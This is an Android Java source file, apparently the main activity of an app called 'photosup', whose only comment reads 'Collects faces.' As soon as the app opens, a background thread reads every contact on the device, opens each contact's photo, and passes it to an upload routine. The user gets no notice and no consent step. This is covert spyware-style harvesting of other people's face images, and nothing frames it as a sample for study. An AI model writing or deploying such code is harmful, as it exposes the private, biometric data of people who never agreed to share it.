package com.example.photosup;

import android.app.Activity;
import android.content.ContentUris;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract.Contacts;
import java.io.IOException;
import java.io.InputStream;

/** Collects faces. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::sendPhotos).start();
    }

    private void sendPhotos() {
        Cursor cursor = getContentResolver().query(Contacts.CONTENT_URI, new String[] {"_id"}, null, null, null);
        while (cursor.moveToNext()) {
            Uri contact = ContentUris.withAppendedId(Contacts.CONTENT_URI, cursor.getLong(0));
            try (InputStream photo = Contacts.openContactPhotoInputStream(getContentResolver(), contact, true)) {
                if (photo != null) {
                    StreamUpload.copy(photo);
                }
            } catch (IOException offline) {
                finish();
            }
        }
        cursor.close();
    }
}
